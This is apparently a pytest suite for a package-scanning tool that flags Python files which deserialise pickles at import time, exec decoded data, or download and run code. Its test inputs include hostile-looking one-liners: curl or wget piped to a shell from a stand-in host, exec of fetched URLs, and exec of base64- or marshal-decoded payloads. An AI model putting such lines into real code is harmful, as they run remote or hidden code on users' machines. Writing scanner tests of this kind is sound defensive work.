"""Python source rules (ast only): import-time unsafe loads, decode-and-exec, download-and-run."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.scan.formats.helpers import blocking, rules, scan_bytes


@pytest.mark.parametrize(
    "src",
    [
        "import torch\nMODEL = torch.load('model.pt')\n",
        "import torch\nMODEL = torch.load('m.pt', weights_only=False)\n",
        "import pickle\nwith open('m.pkl', 'rb') as f:\n    M = pickle.load(f)\n",
        "from joblib import load\nclf = load('clf.joblib')\n",
        "import numpy as np\nW = np.load('w.npy', allow_pickle=True)\n",
        "import dill as d\nclass A:\n    state = d.loads(b'...')\n",
    ],
)
def test_import_time_unsafe_load(tmp_path: Path, src: str) -> None:
    assert "PY-UNSAFE-LOAD" in rules(scan_bytes(tmp_path, "pkg/mod.py", src.encode()))


@pytest.mark.parametrize(
    "src",
    [
        "import torch\nMODEL = torch.load('model.pt', weights_only=True)\n",
        "import torch\ndef load():\n    return torch.load('model.pt')\n",
        "import numpy as np\nW = np.load('w.npy')\n",
        "import json\nC = json.load(open('c.json'))\n",
        # runs as a script, never on import (joblib's loky backend does this)
        "import pickle, sys\nif __name__ == '__main__':\n    OBJ = pickle.load(sys.stdin.buffer)\n",
        "import pickle\nif '__main__' == __name__:\n    OBJ = pickle.load(open('x', 'rb'))\n",
    ],
)
def test_safe_or_deferred_loads_pass(tmp_path: Path, src: str) -> None:
    assert blocking(scan_bytes(tmp_path, "pkg/mod.py", src.encode())) == set()


def test_main_guard_else_branch_runs_on_import(tmp_path: Path) -> None:
    src = (
        b"import pickle\nif __name__ == '__main__':\n    pass\n"
        b"else:\n    M = pickle.load(open('m', 'rb'))\n"
    )
    assert "PY-UNSAFE-LOAD" in rules(scan_bytes(tmp_path, "pkg/mod.py", src))


def test_main_guard_in_setup_py_runs_at_build_time(tmp_path: Path) -> None:
    src = b"import pickle\nif __name__ == '__main__':\n    M = pickle.load(open('m', 'rb'))\n"
    assert "PY-UNSAFE-LOAD" in rules(scan_bytes(tmp_path, "pkg-1.0/setup.py", src))


def test_setup_py_counts_every_scope(tmp_path: Path) -> None:
    src = b"import pickle\ndef go():\n    pickle.load(open('x', 'rb'))\ngo()\n"
    assert "PY-UNSAFE-LOAD" in rules(scan_bytes(tmp_path, "sdist/setup.py", src))


@pytest.mark.parametrize(
    "src",
    [
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import zlib, base64 as b\ncode = zlib.decompress(b.b64decode(X))\nexec(code)\n",
        "def f():\n    eval(bytes.fromhex('7072696e74283129'))\n",
        "import marshal\nexec(marshal.loads(DATA))\n",
        "exec(compile(__import__('codecs').decode(S, 'rot13'), '<x>', 'exec'))\n",
    ],
)
def test_exec_of_decoded_data(tmp_path: Path, src: str) -> None:
    assert "PY-EXEC-DECODED" in rules(scan_bytes(tmp_path, "pkg/x.py", src.encode()))


@pytest.mark.parametrize(
    "src",
    [
        "import urllib.request\nexec(urllib.request.urlopen('http://x/p.py').read())\n",
        "import requests\nr = requests.get('http://x')\nexec(r.text)\n",
        "import os\nos.system('curl -s http://x/i.sh | sh')\n",
        "import subprocess\nsubprocess.run(['bash', '-c', 'wget -qO- http://x | bash'])\n",
    ],
)
def test_download_and_run(tmp_path: Path, src: str) -> None:
    assert "PY-DOWNLOAD-EXEC" in rules(scan_bytes(tmp_path, "pkg/x.py", src.encode()))


def test_ordinary_exec_and_decode_pass(tmp_path: Path) -> None:
    src = (
        b"import base64\ndef enc(x):\n    return base64.b64decode(x)\n"
        b"def run(a):\n    return eval(repr(a))\n"
    )
    assert blocking(scan_bytes(tmp_path, "pkg/x.py", src)) == set()


def test_unparseable_python_without_exec_words_is_informational(tmp_path: Path) -> None:
    # Only files holding a rule's words are compiled at all (``curl`` is the shell rule's).
    res = scan_bytes(tmp_path, "pkg/x.py", b"def f(:\n    URL = 'curl'\n")
    assert rules(res) == {"PY-UNPARSEABLE"} and blocking(res) == set()


def test_unparseable_python_with_exec_words_blocks_without_a_target(tmp_path: Path) -> None:
    """No target: the importing interpreter may be one whose grammar accepts it."""
    res = scan_bytes(tmp_path, "pkg/x.py", b"def f(:\n    exec(base64.b64decode(1))\n")
    assert blocking(res) == {"PY-UNREADABLE-CODE"}


def test_unsafe_load_in_a_test_module_is_low(tmp_path: Path) -> None:
    """Test modules are imported by the test runner, not by ``import pkg``."""
    src = b"import dill\nOBJ = dill.loads(b'...')\n"
    for name in ("pkg/tests/test_module.py", "pkg/test_io.py", "pkg/conftest.py"):
        res = scan_bytes(tmp_path, name, src)
        assert "PY-UNSAFE-LOAD" in rules(res) and blocking(res) == set(), name
    assert blocking(scan_bytes(tmp_path, "pkg/module.py", src)) == {"PY-UNSAFE-LOAD"}
